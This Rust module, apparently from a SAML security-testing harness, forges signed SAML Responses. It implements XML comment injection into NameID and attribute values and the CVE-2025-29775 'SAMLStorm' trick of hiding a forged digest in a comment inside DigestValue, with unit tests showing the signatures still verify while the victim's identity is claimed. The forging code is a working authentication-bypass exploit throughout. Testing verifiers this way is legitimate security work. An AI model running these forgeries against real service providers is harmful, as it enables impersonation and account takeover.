//! Canonicalization attacks: comments are not part of what exclusive c14n signs, so text a
//! comment splits, or a comment inside `DigestValue`, leaves a genuine signature valid while
//! a reader that takes the first child node sees something else.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;

use super::kit::{
    self, assertion_mut, canonical_signed_info, digest_of, digest_value_path, find_child_mut,
    forged_doc, genuine, paths_with_id, sig_parts, signed_mode, spec_for, victim,
};
use super::{Attack, AttackError, Forged, Scenario};
use crate::saml::dsig::{self, DSIG_NS, SAML_ASSERTION_NS, SignOptions, signature_paths};
use crate::saml::response::{self, ResponseSpec};
use crate::saml::xml::{Document, Node, NodePath};

/// Appended to the victim's identity to make the attacker's account at the IdP.
pub(super) const EVIL_SUFFIX: &str = ".evil.test";
/// Columns of the base64 lines in SignatureValue (as xmlsec1 writes it).
const B64_LINE: usize = 64;

pub(super) fn forge(attack: Attack, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    match attack {
        Attack::CommentInjectionNameId => comment_injection(s),
        Attack::DigestComment => digest_comment(s),
        other => Err(AttackError::Unsupported(format!(
            "{other} is not a canonicalization attack"
        ))),
    }
}

/// The IdP genuinely signs `victim.evil.test` (an account the attacker registered); then
/// `<!---->` goes in right after the victim part of the NameID and of every attribute value
/// holding it. c14n drops the comment, so the signature stays valid; a reader that takes
/// the first text node sees the victim.
fn comment_injection(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let signed_identity = format!("{}{EVIL_SUFFIX}", victim(s));
    let spec = spec_for(s, &signed_identity);
    let mut doc = genuine(s, &spec, signed_mode(s.base.sign))?;
    let split = victim(s).len();
    let mut count = 0;
    kit::for_each_element_mut(assertion_mut(&mut doc)?, &mut |e| {
        let names_user =
            e.is(SAML_ASSERTION_NS, "NameID") || e.is(SAML_ASSERTION_NS, "AttributeValue");
        if names_user && e.text() == signed_identity {
            let (head, tail) = signed_identity.split_at(split);
            e.children = vec![
                Node::Text(head.to_string()),
                Node::Comment(String::new()),
                Node::Text(tail.to_string()),
            ];
            count += 1;
        }
    });
    forged_doc(
        &mut doc,
        s,
        Some(signed_identity.clone()),
        format!(
            "the IdP's genuine signature over {signed_identity:?}, with <!----> inserted after the victim part in {count} NameID/AttributeValue element(s)"
        ),
    )
}

/// CVE-2025-29775 ("SAMLStorm"): the attacker's genuine Response with NameID and email
/// changed to the victim; each signature's DigestValue becomes
/// `<!--digest of the forged element-->` followed by the genuine digest. c14n of SignedInfo
/// drops the comment, so the SignatureValue still verifies; a verifier that reads the first
/// child node of DigestValue compares the forged digest, which matches.
///
/// The IdP's signature puts newlines around the DigestValue and wraps the SignatureValue at
/// 64 columns (as xmlsec1-based IdPs do): whitespace every correct verifier must tolerate,
/// so that a rejection cannot come from it.
fn digest_comment(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let spec = spec_for(s, &s.attacker_identity);
    let mut doc = idp_signed_wrapped(s, &spec)?;
    kit::retarget(assertion_mut(&mut doc)?, &s.attacker_identity, victim(s));
    // Every forged digest is computed before any comment goes in (comments are not digested
    // anyway, so this only keeps the reasoning simple).
    let mut hidden: Vec<(NodePath, String)> = Vec::new();
    for sig in signature_paths(&doc) {
        let target = signed_element(&doc, &sig)?;
        let forged = B64.encode(digest_of(&doc, &target, &sig)?);
        hidden.push((digest_value_path(&doc, &sig)?, forged));
    }
    let count = hidden.len();
    for (dv, forged) in hidden {
        doc.get_mut(&dv)
            .ok_or_else(|| kit::inconsistent("DigestValue"))?
            .insert_child(0, Node::Comment(forged));
    }
    forged_doc(
        &mut doc,
        s,
        None,
        format!(
            "the attacker's genuinely signed Response with NameID and email changed to the victim; {count} DigestValue(s) hold <!--the forged content's digest--> before the genuine digest (SignatureValue still valid)"
        ),
    )
}

/// The element the signature at `sig` references (the first with that ID).
fn signed_element(doc: &Document, sig: &NodePath) -> Result<NodePath, AttackError> {
    let el = doc
        .get(sig)
        .ok_or_else(|| kit::inconsistent("signature path"))?;
    let id = sig_parts(el)?.reference_id;
    paths_with_id(doc, &id)
        .into_iter()
        .next()
        .ok_or_else(|| kit::inconsistent("the Reference resolves to nothing"))
}

/// `spec` signed by the IdP per the SP's sign mode, each signature written with a newline
/// around DigestValue and SignatureValue wrapped at 64 columns, SignedInfo re-signed by the
/// IdP over that form (before any Response signature covers it).
fn idp_signed_wrapped(s: &Scenario<'_>, spec: &ResponseSpec) -> Result<Document, AttackError> {
    let mut doc = response::build(spec);
    let opts = SignOptions {
        alg: spec.alg,
        digest: response::digest_for(spec.alg),
        ..SignOptions::default()
    };
    kit::sign_levels(
        &mut doc,
        signed_mode(s.base.sign),
        &s.idp.key,
        &s.idp.cert,
        &opts,
        &mut |doc, sig| wrap_values(doc, sig, s),
    )?;
    Ok(doc)
}

fn wrap_values(doc: &mut Document, sig: &NodePath, s: &Scenario<'_>) -> Result<(), AttackError> {
    let dv_path = digest_value_path(doc, sig)?;
    let dv = doc
        .get_mut(&dv_path)
        .ok_or_else(|| kit::inconsistent("DigestValue"))?;
    let digest = dv.text();
    kit::set_text(dv, &format!("\n{}\n", digest.trim()));
    let signed_info = canonical_signed_info(doc, sig)?;
    let sig_el = doc
        .get(sig)
        .ok_or_else(|| kit::inconsistent("signature path"))?;
    let alg = sig_parts(sig_el)?.alg;
    let value = dsig::sign_bytes(alg, &s.idp.key, signed_info.as_bytes())?;
    let sig_el = doc
        .get_mut(sig)
        .ok_or_else(|| kit::inconsistent("signature path"))?;
    kit::set_text(
        find_child_mut(sig_el, DSIG_NS, "SignatureValue")?,
        &wrap_b64(&B64.encode(value)),
    );
    Ok(())
}

/// Base64 in lines of [`B64_LINE`] columns, each line ending in a newline, with one at the
/// start too.
fn wrap_b64(b64: &str) -> String {
    let mut out = String::with_capacity(b64.len() + b64.len() / B64_LINE + 2);
    out.push('\n');
    // Base64 is ASCII, so byte chunks are whole characters.
    for line in b64.as_bytes().chunks(B64_LINE) {
        out.push_str(&String::from_utf8_lossy(line));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::kit::testing::*;
    use super::*;
    use crate::saml::dsig::DsigError;
    use crate::saml::response::SignMode;
    use crate::saml::xml::Element;

    /// What a first-text-node reader sees.
    fn first_text(el: &Element) -> Option<&str> {
        el.children.iter().find_map(|n| match n {
            Node::Text(t) => Some(t.as_str()),
            _ => None,
        })
    }

    fn user_elements(doc: &Document) -> Vec<Element> {
        let mut out = Vec::new();
        doc.root.walk(NodePath::default(), &mut |_, e| {
            if e.is(SAML_ASSERTION_NS, "NameID") || e.is(SAML_ASSERTION_NS, "AttributeValue") {
                out.push(e.clone());
            }
        });
        out
    }

    #[test]
    fn comment_injection_keeps_the_signature_and_splits_the_name() {
        for mode in [SignMode::Assertion, SignMode::Both] {
            let s = scenario(mode);
            let f = forge(Attack::CommentInjectionNameId, &s).unwrap();
            let signed = format!("{VICTIM}{EVIL_SUFFIX}");
            assert_eq!(f.claimed, VICTIM);
            assert_eq!(f.genuine.as_deref(), Some(signed.as_str()));
            assert!(f.xml.contains(&format!("{VICTIM}<!---->{EVIL_SUFFIX}")));
            let doc = parse(&f.xml);
            // Correct verification: c14n drops the comment.
            let verified = dsig::verify(&doc, std::slice::from_ref(&s.idp.cert)).unwrap();
            assert_eq!(verified.len(), if mode == SignMode::Both { 2 } else { 1 });
            let split: Vec<Element> = user_elements(&doc)
                .into_iter()
                .filter(|e| e.text() == signed)
                .collect();
            // NameID and the email attribute.
            assert_eq!(split.len(), 2);
            for e in &split {
                assert_eq!(first_text(e), Some(VICTIM));
                assert!(matches!(&e.children[1], Node::Comment(c) if c.is_empty()));
            }
        }
    }

    #[test]
    fn comment_injection_for_a_non_email_name() {
        let mut s = scenario(SignMode::Assertion);
        s.base.name_id = "victim".into();
        s.base.attributes.clear();
        let f = forge(Attack::CommentInjectionNameId, &s).unwrap();
        assert_eq!(f.genuine.as_deref(), Some("victim.evil.test"));
        assert!(f.xml.contains("victim<!---->.evil.test"));
        dsig::verify(&parse(&f.xml), std::slice::from_ref(&s.idp.cert)).unwrap();
    }

    #[test]
    fn idp_wrapped_values_verify_strictly() {
        let s = scenario(SignMode::Both);
        let doc = idp_signed_wrapped(&s, &s.base).unwrap();
        let back = parse(&doc.to_xml());
        assert_eq!(
            dsig::verify(&back, std::slice::from_ref(&s.idp.cert))
                .unwrap()
                .len(),
            2
        );
        assert!(
            wrap_b64(&"A".repeat(130))
                .lines()
                .skip(1)
                .all(|l| l.len() <= 64)
        );
    }

    #[test]
    fn digest_comment_keeps_signed_info_valid_and_hides_the_forged_digest() {
        for mode in [SignMode::Assertion, SignMode::Both] {
            let s = scenario(mode);
            let f = forge(Attack::DigestComment, &s).unwrap();
            assert_eq!(f.claimed, VICTIM);
            assert_eq!(f.genuine, None);
            assert!(!f.description.contains('\n'));
            let doc = parse(&f.xml);
            assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
            let sigs = signature_paths(&doc);
            assert_eq!(sigs.len(), if mode == SignMode::Both { 2 } else { 1 });
            for sig in &sigs {
                // The IdP's SignatureValue over SignedInfo is intact.
                signed_info_verifies(&doc, sig, &s.idp.cert).unwrap();
                let sv = doc
                    .get(sig)
                    .unwrap()
                    .find_child(DSIG_NS, "SignatureValue")
                    .unwrap();
                assert!(sv.text().trim().contains('\n'));
                // A correct verifier reads the text: the genuine digest, which no longer
                // matches.
                assert!(matches!(
                    strict(&doc, sig, &s.idp.cert),
                    Err(DsigError::DigestMismatch { .. })
                ));
                // A first-child reader gets the comment: the forged content's digest.
                let dv = doc.get(&digest_value_path(&doc, sig).unwrap()).unwrap();
                let Node::Comment(hidden) = &dv.children[0] else {
                    panic!("DigestValue does not start with a comment");
                };
                let target = signed_element(&doc, sig).unwrap();
                assert_eq!(
                    decode(hidden).unwrap(),
                    digest_of(&doc, &target, sig).unwrap()
                );
                let genuine = first_text(dv).unwrap();
                assert!(genuine.starts_with('\n') && genuine.ends_with('\n'));
                assert_ne!(decode(genuine).unwrap(), decode(hidden).unwrap());
            }
        }
    }
}
